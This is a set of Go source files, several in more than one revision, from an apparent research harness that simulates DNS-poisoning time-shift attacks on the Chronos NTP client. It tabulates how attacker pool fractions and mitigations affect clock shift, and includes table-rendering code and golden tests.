	poisoned, err := core.NewScenario(core.Config{
		Seed: seed + 1, Mechanism: core.Defrag, PoisonQuery: 12,
		SyncDuration: 2 * time.Hour, RunPlainNTP: true,
	})
	if err != nil {
		return nil, err
	}
	pres, err := poisoned.Run()
	if err != nil {
		return nil, err
	}
	t.AddRow("chronos", "poisoned (44 benign + 89 malicious)", pres.ChronosOffset.String(), pres.ChronosMaxOffset.String())
	t.AddRow("classic ntp (4 servers)", "poisoned (same resolver)", pres.PlainOffset.String(), "-")
	t.Notes = append(t.Notes,
		"paper: with ≥ 2/3 of the pool the attacker defeats both the normal path and panic mode; plain NTP falls with a single poisoning",
		fmt.Sprintf("chronos stats (poisoned): updates=%d resamples=%d panics=%d",
			pres.ChronosStats.Updates, pres.ChronosStats.Resamples, pres.ChronosStats.Panics),
	)
	return t, nil
}

// Mitigations reproduces §V: the 4-address + TTL caps stop the single-shot
// poisoning, multi-resolver consensus stops a single poisoned resolver,
// but a persistent (24 h) DNS hijack still defeats everything.
func Mitigations(seed int64) (*Table, error) {
	t := &Table{
		ID:      "E7",
		Title:   "§V mitigations — pool composition under each defence",
		Columns: []string{"defence", "mechanism", "benign", "malicious", "attacker-fraction"},
	}
	type runCase struct {
		name string
		cfg  core.Config
	}
	cases := []runCase{
		{"none (vulnerable)", core.Config{Seed: seed, Mechanism: core.Defrag, PoisonQuery: 12}},
		{"resolver: ≤4 addrs, TTL ≤24h", core.Config{
			Seed: seed + 1, Mechanism: core.Defrag, PoisonQuery: 12,
			ResolverPolicy: mitigation.PaperResolverPolicy(),
		}},
		{"client: ≤4 addrs, TTL ≤24h", core.Config{
			Seed: seed + 2, Mechanism: core.Defrag, PoisonQuery: 12,
			ClientPolicy: mitigation.PaperClientPolicy(),
		}},
		{"consensus (3 resolvers)", core.Config{
			Seed: seed + 3, Mechanism: core.Defrag, PoisonQuery: 12, Consensus: 3,
		}},
		{"all of the above", core.Config{
			Seed: seed + 4, Mechanism: core.BGPHijackPersistent, PoisonQuery: 1,
			MaliciousServers: 120,
			ResolverPolicy:   mitigation.PaperResolverPolicy(),
			ClientPolicy:     mitigation.PaperClientPolicy(),
		}},
	}
	for _, c := range cases {
		s, err := core.NewScenario(c.cfg)
		if err != nil {
			return nil, err
		}
		res, err := s.Run()
		if err != nil {
			return nil, err
		}
		t.AddRow(c.name, res.Mechanism.String(), res.PoolBenign, res.PoolMalicious, res.AttackerFraction)
	}
	t.Notes = append(t.Notes,
		"paper §V: capping addresses and TTLs 'can be improved to limit the impact' ...",
		"... 'however, even with these mitigations, the dependency on the insecure DNS still remains' — the 24 h hijack row",
	)
	return t, nil
}

// All runs every experiment (E5, the measurement study, lives in
// fragstudy.go).
func All(seed int64) ([]*Table, error) {
	var out []*Table
	steps := []func() (*Table, error){
		func() (*Table, error) { return Figure1(seed) },
		func() (*Table, error) { return AttackWindow(seed) },
		MaxAddresses,
		ChronosSecurity,
		func() (*Table, error) { return FragmentationStudy(seed) },
		func() (*Table, error) { return TimeShift(seed) },
		func() (*Table, error) { return Mitigations(seed) },
		func() (*Table, error) { return Ablations(seed) },
	}
	for _, step := range steps {
		tbl, err := step()
		if err != nil {
			return nil, err
		}
		out = append(out, tbl)
	}
	return out, nil
}
