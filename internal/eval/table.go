// Package eval contains the experiment harness: one entry point per paper
// artefact (Figure 1 and the §II–§V quantitative claims, E1–E10), each
// returning a typed *Result rather than formatted text.
//
// A Result is Meta (experiment ID, seed, trials, the builder's VCS
// revision) plus a kind-discriminated Payload holding the experiment's
// grid axes and per-cell aggregates (stats.Summary) — never formatted
// strings. The payload's Table(Meta) renderer is the only place numbers
// become text, so the JSON form (Result marshals under the
// ResultSchema envelope and round-trips through the payload-kind
// registry) always carries at least as much information as the printed
// table. golden_test.go pins both representations: rendered tables are
// byte-compared against testdata goldens, and every payload must survive
// marshal → unmarshal → re-render → same bytes.
//
// The E10 shift study additionally exposes a checkpointed variant
// (ShiftStudyCheckpointed) persisting each completed trial through
// runner.Checkpoint; because trials are independently seeded and reduced
// by trial index, a killed-and-resumed run renders bit-identically to an
// uninterrupted one.
//
// Catalog() registers every experiment's claim, invocation and payload
// schema; cmd/genexperiments generates EXPERIMENTS.md from it. The
// cmd/attacksim binary prints the tables (or JSON with -json);
// bench_test.go regenerates them as testing.B benchmarks.
package eval

import (
	"fmt"
	"strings"
)

// Table is a rendered experiment result.
type Table struct {
	ID      string
	Title   string
	Columns []string
	Rows    [][]string
	Notes   []string
}

// AddRow appends a row (stringifying the cells).
func (t *Table) AddRow(cells ...interface{}) {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case string:
			row[i] = v
		case float64:
			row[i] = fmt.Sprintf("%.3f", v)
		default:
			row[i] = fmt.Sprint(v)
		}
	}
	t.Rows = append(t.Rows, row)
}

// Render lays the table out as aligned text.
func (t *Table) Render() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "== %s: %s ==\n", t.ID, t.Title)
	widths := make([]int, len(t.Columns))
	for i, c := range t.Columns {
		widths[i] = len(c)
	}
	for _, row := range t.Rows {
		for i, cell := range row {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	writeRow := func(cells []string) {
		for i, cell := range cells {
			if i > 0 {
				sb.WriteString("  ")
			}
			fmt.Fprintf(&sb, "%-*s", widths[i], cell)
		}
		sb.WriteByte('\n')
	}
	writeRow(t.Columns)
	for i, w := range widths {
		if i > 0 {
			sb.WriteString("  ")
		}
		sb.WriteString(strings.Repeat("-", w))
	}
	sb.WriteByte('\n')
	for _, row := range t.Rows {
		writeRow(row)
	}
	for _, n := range t.Notes {
		fmt.Fprintf(&sb, "note: %s\n", n)
	}
	return sb.String()
}
