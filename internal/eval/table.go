// Package eval contains the experiment harness: one runner per paper
// artefact (Figure 1 and the §II–§V quantitative claims), each producing a
// formatted table comparing the paper's number with the measured one.
// The cmd/attacksim binary prints them; bench_test.go regenerates them as
// testing.B benchmarks.
package eval

import (
	"fmt"
	"strings"
)

// Table is a rendered experiment result.
type Table struct {
	ID      string
	Title   string
	Columns []string
	Rows    [][]string
	Notes   []string
}

// AddRow appends a row (stringifying the cells).
func (t *Table) AddRow(cells ...interface{}) {
	row := make([]string, len(cells))
	for i, c := range cells {
		switch v := c.(type) {
		case string:
			row[i] = v
		case float64:
			row[i] = fmt.Sprintf("%.3f", v)
		default:
			row[i] = fmt.Sprint(v)
		}
	}
	t.Rows = append(t.Rows, row)
}

// Render lays the table out as aligned text.
func (t *Table) Render() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "== %s: %s ==\n", t.ID, t.Title)
	widths := make([]int, len(t.Columns))
	for i, c := range t.Columns {
		widths[i] = len(c)
	}
	for _, row := range t.Rows {
		for i, cell := range row {
			if i < len(widths) && len(cell) > widths[i] {
				widths[i] = len(cell)
			}
		}
	}
	writeRow := func(cells []string) {
		for i, cell := range cells {
			if i > 0 {
				sb.WriteString("  ")
			}
			fmt.Fprintf(&sb, "%-*s", widths[i], cell)
		}
		sb.WriteByte('\n')
	}
	writeRow(t.Columns)
	for i, w := range widths {
		if i > 0 {
			sb.WriteString("  ")
		}
		sb.WriteString(strings.Repeat("-", w))
	}
	sb.WriteByte('\n')
	for _, row := range t.Rows {
		writeRow(row)
	}
	for _, n := range t.Notes {
		fmt.Fprintf(&sb, "note: %s\n", n)
	}
	return sb.String()
}
