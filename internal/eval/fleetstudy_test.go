package eval

import (
	"runtime"
	"strings"
	"testing"
)

// TestFleetStudyDeterministicAcrossParallelism renders the E9 sweep at
// -parallel 1 and -parallel GOMAXPROCS: the tables must be byte-identical
// (shards are independent seeded simulations reduced in shard order).
func TestFleetStudyDeterministicAcrossParallelism(t *testing.T) {
	seq, err := FleetStudy(3, 1, 1, 800, 8)
	if err != nil {
		t.Fatal(err)
	}
	par, err := FleetStudy(3, 1, runtime.GOMAXPROCS(0), 800, 8)
	if err != nil {
		t.Fatal(err)
	}
	if seq.Render() != par.Render() {
		t.Fatalf("E9 table differs across parallelism:\n--- seq ---\n%s\n--- par ---\n%s",
			seq.Render(), par.Render())
	}
}

func TestFleetStudyShowsAmplification(t *testing.T) {
	res, err := FleetStudy(1, 1, 0, 600, 6)
	if err != nil {
		t.Fatal(err)
	}
	tbl := res.Table()
	out := tbl.Render()
	if !strings.Contains(out, "zipf") || !strings.Contains(out, "uniform") ||
		!strings.Contains(out, "§V caps") {
		t.Fatalf("E9 table missing sweep dimensions:\n%s", out)
	}
	rows := len(tbl.Rows)
	if rows < 8 {
		t.Fatalf("E9 sweep too small: %d rows", rows)
	}
}
