package eval

import (
	"context"
	"fmt"
	"math"
	"time"

	"chronosntp/internal/analysis"
	"chronosntp/internal/chronos"
	"chronosntp/internal/mitigation"
	"chronosntp/internal/runner"
	"chronosntp/internal/shiftsim"
	"chronosntp/internal/stats"
)

// ShiftStudy (E10) is the long-horizon empirical counterpart of the E4
// closed-form security-bound table: for every (attacker pool fraction ×
// attacker strategy × §V mitigation) grid point it runs the shiftsim
// engine — the actual Chronos round loop over virtual weeks — and
// cross-tabulates the measured time-to-Target-shift against the
// closed-form prediction (analysis.TimeToShift at the greedy per-round
// step).
//
// The §V-caps axis re-derives each composition under the paper's
// client-side mitigation: the poisoned response may contribute at most
// MaxAddrsPerResponse addresses, so the attacker's pool share collapses
// and every strategy is pushed back into the "decades" regime.
//
// target/horizon default to 100 ms / 7 days; strategy "" or "all" sweeps
// every registered strategy. Trials fan across the worker pool and reduce
// by trial index, so the table is bit-identical at any parallelism.
func ShiftStudy(seed int64, trials, parallel int, target, horizon time.Duration, strategy string) (*Table, error) {
	if trials < 1 {
		trials = 1
	}
	if target == 0 {
		target = 100 * time.Millisecond
	}
	if horizon == 0 {
		horizon = 7 * 24 * time.Hour
	}
	strategyNames := shiftsim.Names()
	if strategy != "" && strategy != "all" {
		if _, err := shiftsim.ByName(strategy); err != nil {
			return nil, err
		}
		strategyNames = []string{strategy}
	}

	// The paper's 133-member poisoned pool at four attacker shares: below
	// the proof's 1/3 boundary, at it, at one half, and at the poisoned
	// ≈ 2/3 supermajority.
	pools := []struct{ pool, malicious int }{
		{133, 33},
		{133, 44},
		{133, 67},
		{133, 89},
	}
	addrCap := mitigation.PaperClientPolicy().MaxAddrsPerResponse

	type point struct {
		pool, malicious int
		strategy        string
		mitigated       bool
	}
	var points []point
	for _, pc := range pools {
		for _, sn := range strategyNames {
			for _, mitigated := range []bool{false, true} {
				points = append(points, point{pc.pool, pc.malicious, sn, mitigated})
			}
		}
	}

	results := make([][]*shiftsim.Result, len(points))
	for i := range results {
		results[i] = make([]*shiftsim.Result, trials)
	}
	err := runner.ForEach(context.Background(), len(points)*trials, parallel, func(i int) error {
		pi, k := i/trials, i%trials
		p := points[pi]
		pool, malicious := p.pool, p.malicious
		if p.mitigated {
			pool, malicious = mitigatedComposition(pool, malicious, addrCap)
		}
		strat, err := shiftsim.ByName(p.strategy)
		if err != nil {
			return err
		}
		res, err := shiftsim.Run(shiftsim.Config{
			// Decorrelate the per-point seed blocks.
			Seed:      seed + int64(pi)*10_007 + int64(k),
			PoolSize:  pool,
			Malicious: malicious,
			Strategy:  strat,
			Target:    target,
			Horizon:   horizon,
			RunLength: -1,
		})
		if err != nil {
			return err
		}
		results[pi][k] = res
		return nil
	})
	if err != nil {
		return nil, err
	}

	t := &Table{
		ID: "E10",
		Title: fmt.Sprintf("Long-horizon shift engine — empirical time to %v shift vs closed form (horizon %v)",
			target, horizon),
		Columns: []string{
			"pool", "strategy", "mitigation",
			"shifted", "time-to-shift", "rounds", "closed-form", "panics", "max-push",
		},
	}
	for pi, p := range points {
		pool, malicious := p.pool, p.malicious
		mitLabel := "off"
		if p.mitigated {
			pool, malicious = mitigatedComposition(pool, malicious, addrCap)
			mitLabel = "§V caps"
		}
		closed := closedFormCell(pool, malicious, target)

		var shifted int
		var hits, times, rounds, panics, pushes []float64
		for _, r := range results[pi] {
			hit := 0.0
			if r.Shifted {
				hit = 1
				shifted++
				times = append(times, float64(r.TimeToShift))
				rounds = append(rounds, float64(r.RoundsToShift))
			}
			hits = append(hits, hit)
			panics = append(panics, float64(r.Panics))
			pushes = append(pushes, float64(r.MaxPush))
		}
		timeCell, roundCell := "> horizon", "-"
		if shifted > 0 {
			timeCell = fmtLongDur(describe(times))
			roundCell = fmtCount(describe(rounds))
		}
		t.AddRow(
			fmt.Sprintf("%d/%d (%.3f)", malicious, pool, float64(malicious)/float64(pool)),
			p.strategy, mitLabel,
			fmtFrac(describe(hits)),
			timeCell, roundCell, closed,
			fmtCount(describe(panics)), fmtDur(describe(pushes)),
		)
	}
	t.Notes = append(t.Notes,
		"closed-form: analysis.TimeToShift at the greedy per-round step (ErrBound − 5ms) — the E4 model; 'never' = win probability too small",
		"shifted is the fraction of trials whose |clock error| crossed the target within the horizon; time-to-shift/rounds average the shifted trials only",
		fmt.Sprintf("§V caps: the client-side mitigation truncates the poisoned response to %d addresses, re-deriving the composition", addrCap),
		"max-push is the largest forward update a trial accepted — stealth stays at its 5ms drip where greedy jumps by full steps",
		"the shiftsim cross-validation suite asserts the greedy (non-adaptive) rows agree with the closed form within the Monte-Carlo 95% CI",
	)
	mcNote(t, trials)
	return t, nil
}

// fmtLongDur renders a minutes-to-hours duration metric (observed in
// nanoseconds) in duration notation — the ms rendering fmtDur uses for
// clock offsets is unreadable at this scale.
func fmtLongDur(s stats.Summary) string {
	mean := time.Duration(int64(s.Mean)).Round(time.Second)
	if s.N <= 1 {
		return mean.String()
	}
	ci := time.Duration(int64(s.CI95)).Round(time.Second)
	return fmt.Sprintf("%s ± %s", mean, ci)
}

// mitigatedComposition applies the §V client cap to a poisoned-pool
// composition: the benign servers stay, the attacker's injection is
// truncated to the per-response address cap.
func mitigatedComposition(pool, malicious, addrCap int) (int, int) {
	if addrCap <= 0 || malicious <= addrCap {
		return pool, malicious
	}
	benign := pool - malicious
	return benign + addrCap, addrCap
}

// closedFormCell renders the closed-form expected effort for a pool
// composition (the same saturation rules as the E4 table). The sampling
// shape, per-round step and round interval are derived from the same
// defaults the engine resolves, so the comparison column cannot drift
// from the empirical ones.
func closedFormCell(pool, malicious int, target time.Duration) string {
	cc := chronos.NewRule(chronos.Config{}).Config()
	sample := cc.SampleSize
	if pool < sample {
		sample = pool
	}
	trim := sample / 3
	st, err := analysis.YearsToShift(pool, malicious, sample, trim, target,
		shiftsim.MaxStep(cc), cc.SyncInterval)
	if err != nil {
		return "-"
	}
	switch {
	case math.IsInf(st.Years, 1):
		return "never"
	case st.Years > 250:
		return fmt.Sprintf("%.3g years", st.Years)
	default:
		return st.Expected.Round(time.Second).String()
	}
}
