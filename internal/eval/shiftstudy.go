package eval

import (
	"context"
	"encoding/json"
	"fmt"
	"math"
	"time"

	"chronosntp/internal/analysis"
	"chronosntp/internal/chronos"
	"chronosntp/internal/mitigation"
	"chronosntp/internal/runner"
	"chronosntp/internal/shiftsim"
	"chronosntp/internal/stats"
)

// ShiftStudy (E10) is the long-horizon empirical counterpart of the E4
// closed-form security-bound table: for every (attacker pool fraction ×
// attacker strategy × §V mitigation) grid point it runs the shiftsim
// engine — the actual Chronos round loop over virtual weeks — and
// cross-tabulates the measured time-to-Target-shift against the
// closed-form prediction (analysis.TimeToShift at the greedy per-round
// step).
//
// The §V-caps axis re-derives each composition under the paper's
// client-side mitigation: the poisoned response may contribute at most
// MaxAddrsPerResponse addresses, so the attacker's pool share collapses
// and every strategy is pushed back into the "decades" regime.
//
// target/horizon default to 100 ms / 7 days; strategy "" or "all" sweeps
// every registered strategy. Trials fan across the worker pool and reduce
// by trial index, so the table is bit-identical at any parallelism.
func ShiftStudy(seed int64, trials, parallel int, target, horizon time.Duration, strategy string) (*Result, error) {
	return ShiftStudyCheckpointed(seed, trials, parallel, target, horizon, strategy, nil)
}

// shiftPoint is one E10 grid point before execution.
type shiftPoint struct {
	pool, malicious int
	strategy        string
	mitigated       bool
}

// shiftGrid resolves the E10 defaults and expands the grid. The returned
// addrCap is the §V client-side per-response address cap applied on the
// mitigated axis.
func shiftGrid(target, horizon time.Duration, strategy string) (points []shiftPoint, rTarget, rHorizon time.Duration, addrCap int, err error) {
	if target == 0 {
		target = 100 * time.Millisecond
	}
	if horizon == 0 {
		horizon = 7 * 24 * time.Hour
	}
	strategyNames := shiftsim.Names()
	if strategy != "" && strategy != "all" {
		if _, err := shiftsim.ByName(strategy); err != nil {
			return nil, 0, 0, 0, err
		}
		strategyNames = []string{strategy}
	}

	// The paper's 133-member poisoned pool at four attacker shares: below
	// the proof's 1/3 boundary, at it, at one half, and at the poisoned
	// ≈ 2/3 supermajority.
	pools := []struct{ pool, malicious int }{
		{133, 33},
		{133, 44},
		{133, 67},
		{133, 89},
	}
	addrCap = mitigation.PaperClientPolicy().MaxAddrsPerResponse

	for _, pc := range pools {
		for _, sn := range strategyNames {
			for _, mitigated := range []bool{false, true} {
				points = append(points, shiftPoint{pc.pool, pc.malicious, sn, mitigated})
			}
		}
	}
	return points, target, horizon, addrCap, nil
}

// ShiftStudyTasks is the task count of an E10 run (grid points × trials) —
// the Total a checkpoint for that run must be created with.
func ShiftStudyTasks(trials int, target, horizon time.Duration, strategy string) (int, error) {
	if trials < 1 {
		trials = 1
	}
	points, _, _, _, err := shiftGrid(target, horizon, strategy)
	if err != nil {
		return 0, err
	}
	return len(points) * trials, nil
}

// ShiftStudyFingerprint fingerprints an E10 run configuration over its
// *resolved* parameters (defaults applied), so a checkpoint written at the
// defaults resumes under the equivalent explicit flags and a checkpoint
// from a different configuration is rejected.
func ShiftStudyFingerprint(seed int64, trials int, target, horizon time.Duration, strategy string) string {
	if trials < 1 {
		trials = 1
	}
	if target == 0 {
		target = 100 * time.Millisecond
	}
	if horizon == 0 {
		horizon = 7 * 24 * time.Hour
	}
	if strategy == "" {
		strategy = "all"
	}
	return runner.Fingerprint(struct {
		Experiment string        `json:"experiment"`
		Seed       int64         `json:"seed"`
		Trials     int           `json:"trials"`
		Target     time.Duration `json:"target"`
		Horizon    time.Duration `json:"horizon"`
		Strategy   string        `json:"strategy"`
	}{"E10", seed, trials, target, horizon, strategy})
}

// ShiftStudyCheckpointed is ShiftStudy with optional checkpoint/resume:
// with a non-nil ckpt every completed trial's shiftsim.Result is persisted
// as it finishes, and trials the checkpoint already holds are restored
// instead of re-run. Because each trial is deterministic given its seed
// and the reduction is keyed by trial index, a resumed run's table is
// bit-identical to an uninterrupted one.
func ShiftStudyCheckpointed(seed int64, trials, parallel int, target, horizon time.Duration, strategy string, ckpt *runner.Checkpoint) (*Result, error) {
	if trials < 1 {
		trials = 1
	}
	points, target, horizon, addrCap, err := shiftGrid(target, horizon, strategy)
	if err != nil {
		return nil, err
	}

	results := make([][]*shiftsim.Result, len(points))
	for i := range results {
		results[i] = make([]*shiftsim.Result, trials)
	}
	err = runner.ForEachCheckpointed(context.Background(), len(points)*trials, parallel, ckpt,
		func(i int, raw json.RawMessage) error {
			var res shiftsim.Result
			if err := json.Unmarshal(raw, &res); err != nil {
				return fmt.Errorf("eval: restoring E10 trial %d: %w", i, err)
			}
			results[i/trials][i%trials] = &res
			return nil
		},
		func(i int) (interface{}, error) {
			pi, k := i/trials, i%trials
			p := points[pi]
			pool, malicious := p.pool, p.malicious
			if p.mitigated {
				pool, malicious = mitigatedComposition(pool, malicious, addrCap)
			}
			strat, err := shiftsim.ByName(p.strategy)
			if err != nil {
				return nil, err
			}
			res, err := shiftsim.Run(shiftsim.Config{
				// Decorrelate the per-point seed blocks.
				Seed:      seed + int64(pi)*10_007 + int64(k),
				PoolSize:  pool,
				Malicious: malicious,
				Strategy:  strat,
				Target:    target,
				Horizon:   horizon,
				RunLength: -1,
			})
			if err != nil {
				return nil, err
			}
			results[pi][k] = res
			return res, nil
		})
	if err != nil {
		return nil, err
	}

	payload := &ShiftStudyPayload{Target: target, Horizon: horizon, AddrCap: addrCap}
	for pi, p := range points {
		pool, malicious := p.pool, p.malicious
		if p.mitigated {
			pool, malicious = mitigatedComposition(pool, malicious, addrCap)
		}
		var shifted int
		var hits, times, rounds, panics, pushes []float64
		for _, r := range results[pi] {
			hit := 0.0
			if r.Shifted {
				hit = 1
				shifted++
				times = append(times, float64(r.TimeToShift))
				rounds = append(rounds, float64(r.RoundsToShift))
			}
			hits = append(hits, hit)
			panics = append(panics, float64(r.Panics))
			pushes = append(pushes, float64(r.MaxPush))
		}
		payload.Rows = append(payload.Rows, ShiftRow{
			Pool: pool, Malicious: malicious,
			Strategy: p.strategy, Mitigated: p.mitigated,
			Hit: describe(hits), ShiftedCount: shifted,
			TimeToShift: describe(times), Rounds: describe(rounds),
			Panics: describe(panics), MaxPush: describe(pushes),
		})
	}
	return &Result{Meta: newMeta("E10", seed, trials), Payload: payload}, nil
}

// fmtLongDur renders a minutes-to-hours duration metric (observed in
// nanoseconds) in duration notation — the ms rendering fmtDur uses for
// clock offsets is unreadable at this scale.
func fmtLongDur(s stats.Summary) string {
	mean := time.Duration(int64(s.Mean)).Round(time.Second)
	if s.N <= 1 {
		return mean.String()
	}
	ci := time.Duration(int64(s.CI95)).Round(time.Second)
	return fmt.Sprintf("%s ± %s", mean, ci)
}

// mitigatedComposition applies the §V client cap to a poisoned-pool
// composition: the benign servers stay, the attacker's injection is
// truncated to the per-response address cap.
func mitigatedComposition(pool, malicious, addrCap int) (int, int) {
	if addrCap <= 0 || malicious <= addrCap {
		return pool, malicious
	}
	benign := pool - malicious
	return benign + addrCap, addrCap
}

// closedFormCell renders the closed-form expected effort for a pool
// composition (the same saturation rules as the E4 table). The sampling
// shape, per-round step and round interval are derived from the same
// defaults the engine resolves, so the comparison column cannot drift
// from the empirical ones.
func closedFormCell(pool, malicious int, target time.Duration) string {
	cc := chronos.NewRule(chronos.Config{}).Config()
	sample := cc.SampleSize
	if pool < sample {
		sample = pool
	}
	trim := sample / 3
	st, err := analysis.YearsToShift(pool, malicious, sample, trim, target,
		shiftsim.MaxStep(cc), cc.SyncInterval)
	if err != nil {
		return "-"
	}
	switch {
	case math.IsInf(st.Years, 1):
		return "never"
	case st.Years > 250:
		return fmt.Sprintf("%.3g years", st.Years)
	default:
		return st.Expected.Round(time.Second).String()
	}
}
