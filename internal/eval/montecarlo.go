package eval

import (
	"fmt"
	"time"

	"chronosntp/internal/stats"
)

// The formatting helpers below render a stats.Summary so that a single
// trial reproduces the exact cell the pre-Monte-Carlo harness printed
// (plain int, "%.3f" fraction, duration string), while multiple trials
// switch to "mean ± 95% CI".

// FormatCount renders an integer-valued metric. Exported so cmd/attacksim
// sweep tables format identically to the eval tables.
func FormatCount(s stats.Summary) string {
	if s.N <= 1 {
		return fmt.Sprintf("%d", int(s.Mean+0.5))
	}
	return fmt.Sprintf("%.1f ± %.1f", s.Mean, s.CI95)
}

// FormatFraction renders a [0,1] fraction.
func FormatFraction(s stats.Summary) string {
	return s.String()
}

// fmtCount and fmtFrac keep the experiment code terse.
func fmtCount(s stats.Summary) string { return FormatCount(s) }
func fmtFrac(s stats.Summary) string  { return FormatFraction(s) }

// fmtDur renders a duration-valued metric observed in nanoseconds.
func fmtDur(s stats.Summary) string {
	if s.N <= 1 {
		return time.Duration(int64(s.Mean)).String()
	}
	ms := s.Mean / float64(time.Millisecond)
	ci := s.CI95 / float64(time.Millisecond)
	return fmt.Sprintf("%.2fms ± %.2fms", ms, ci)
}

// fmtPct renders a percentage-valued metric (observed as 0–100 counts).
func fmtPct(s stats.Summary) string {
	if s.N <= 1 {
		return fmt.Sprintf("%d%%", int(s.Mean+0.5))
	}
	return fmt.Sprintf("%.1f%% ± %.1f%%", s.Mean, s.CI95)
}

// fmtOutOf renders a "k/n" count metric.
func fmtOutOf(s stats.Summary, total int) string {
	if s.N <= 1 {
		return fmt.Sprintf("%d/%d", int(s.Mean+0.5), total)
	}
	return fmt.Sprintf("%.1f/%d ± %.1f", s.Mean, total, s.CI95)
}

// mcNote annotates a multi-trial table with the replication count. (The
// experiments derive their replica seeds in experiment-specific patterns
// from the base seed, so the note does not claim a specific seed range —
// re-running with the same -seed reproduces the run.)
func mcNote(t *Table, trials int) {
	if trials > 1 {
		t.Notes = append(t.Notes,
			fmt.Sprintf("monte-carlo: %d trials per scenario, derived from the base seed; ± values are normal 95%% CIs of the mean",
				trials))
	}
}

// describe is Describe with the empty-input error downgraded to a zero
// summary (experiment code never feeds empty series; this keeps call
// sites linear).
func describe(xs []float64) stats.Summary {
	s, err := stats.Describe(xs)
	if err != nil {
		return stats.Summary{}
	}
	return s
}
