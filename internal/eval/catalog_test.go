package eval

import (
	"fmt"
	"testing"
)

// TestCatalogCoversAllKinds: every registered payload kind has exactly one
// catalog entry and vice versa — an experiment cannot be added without
// documenting it (EXPERIMENTS.md is generated from this catalog).
func TestCatalogCoversAllKinds(t *testing.T) {
	entries := Catalog()
	if len(entries) != len(payloadKinds) {
		t.Errorf("catalog has %d entries, payload registry has %d kinds", len(entries), len(payloadKinds))
	}
	seen := make(map[string]string)
	for i, e := range entries {
		if want := fmt.Sprintf("E%d", i+1); e.ID != want {
			t.Errorf("entry %d has ID %s, want %s (catalog must stay in ID order)", i, e.ID, want)
		}
		kind := e.Payload.Kind()
		if prev, dup := seen[kind]; dup {
			t.Errorf("%s and %s share payload kind %q", prev, e.ID, kind)
		}
		seen[kind] = e.ID
		if _, ok := payloadKinds[kind]; !ok {
			t.Errorf("%s payload kind %q is not in the unmarshal registry", e.ID, kind)
		}
		if e.Claim == "" || e.Section == "" || e.Run == "" || len(e.Axes) == 0 {
			t.Errorf("%s catalog entry is missing claim/section/run/axes", e.ID)
		}
	}
	for kind := range payloadKinds {
		if _, ok := seen[kind]; !ok {
			t.Errorf("registered payload kind %q has no catalog entry", kind)
		}
	}
}

// TestCatalogZeroPayloadsRenderSafely: the generator renders each zero
// payload's table for its title and columns — none may panic or come back
// columnless.
func TestCatalogZeroPayloadsRenderSafely(t *testing.T) {
	for _, e := range Catalog() {
		tbl := e.Payload.Table(Meta{ID: e.ID})
		if tbl.Title == "" || len(tbl.Columns) == 0 {
			t.Errorf("%s zero payload renders without title/columns", e.ID)
		}
		if tbl.ID != e.ID {
			t.Errorf("%s table carries ID %q", e.ID, tbl.ID)
		}
	}
}
