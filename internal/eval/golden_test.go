package eval

import (
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// goldenCases are the deterministic scenario-backed tables: trials=1 at
// seed 1 reproduces the paper's single-seed numbers, so the rendered
// bytes are frozen as goldens. (E3/E4 are closed-form and covered by
// unit tests.) E9 runs a reduced 600-client/6-resolver population and
// E10 a one-day horizon to keep the golden regeneration fast; both stay
// deterministic at any parallelism, so the frozen bytes are stable.
func goldenCases() []struct {
	name string
	fn   func() (*Table, error)
} {
	return []struct {
		name string
		fn   func() (*Table, error)
	}{
		{"E1", func() (*Table, error) { return Figure1(1, 1, 1) }},
		{"E2", func() (*Table, error) { return AttackWindow(1, 1, 1) }},
		{"E5", func() (*Table, error) { return FragmentationStudy(1, 1, 1) }},
		{"E6", func() (*Table, error) { return TimeShift(1, 1, 1) }},
		{"E7", func() (*Table, error) { return Mitigations(1, 1, 1) }},
		{"E8", func() (*Table, error) { return Ablations(1, 1, 1) }},
		{"E9", func() (*Table, error) { return FleetStudy(1, 1, 1, 600, 6) }},
		{"E10", func() (*Table, error) { return ShiftStudy(1, 1, 1, 0, 24*time.Hour, "all") }},
	}
}

// TestGoldenTables byte-compares every experiment's trials=1 rendering
// against its committed golden. Run with -update to regenerate after an
// intentional change:
//
//	go test ./internal/eval -run TestGoldenTables -update
func TestGoldenTables(t *testing.T) {
	for _, tc := range goldenCases() {
		tc := tc
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			tbl, err := tc.fn()
			if err != nil {
				t.Fatal(err)
			}
			got := []byte(tbl.Render())
			path := filepath.Join("testdata", tc.name+".golden")
			if *update {
				if err := os.MkdirAll("testdata", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("missing golden (run with -update to create): %v", err)
			}
			if string(want) != string(got) {
				t.Fatalf("%s rendering drifted from golden %s.\n--- want ---\n%s\n--- got ---\n%s",
					tc.name, path, want, got)
			}
		})
	}
}
