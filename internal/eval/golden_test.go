package eval

import (
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

// goldenCases are the deterministic scenario-backed tables: trials=1 at
// seed 1 reproduces the paper's single-seed numbers, so the rendered
// bytes are frozen as goldens. (E3/E4 are closed-form and covered by
// unit tests.) E9 runs a reduced 600-client/6-resolver population and
// E10 a one-day horizon to keep the golden regeneration fast; both stay
// deterministic at any parallelism, so the frozen bytes are stable.
func goldenCases() []struct {
	name string
	fn   func() (*Result, error)
} {
	return []struct {
		name string
		fn   func() (*Result, error)
	}{
		{"E1", func() (*Result, error) { return Figure1(1, 1, 1) }},
		{"E2", func() (*Result, error) { return AttackWindow(1, 1, 1) }},
		{"E5", func() (*Result, error) { return FragmentationStudy(1, 1, 1) }},
		{"E6", func() (*Result, error) { return TimeShift(1, 1, 1) }},
		{"E7", func() (*Result, error) { return Mitigations(1, 1, 1) }},
		{"E8", func() (*Result, error) { return Ablations(1, 1, 1) }},
		{"E9", func() (*Result, error) { return FleetStudy(1, 1, 1, 600, 6) }},
		{"E10", func() (*Result, error) { return ShiftStudy(1, 1, 1, 0, 24*time.Hour, "all") }},
		{"E11", func() (*Result, error) { return AuthStudy(1, 1, 1, 0, 12*time.Hour, "all", 0) }},
	}
}

// TestGoldenTables byte-compares every experiment's trials=1 rendering
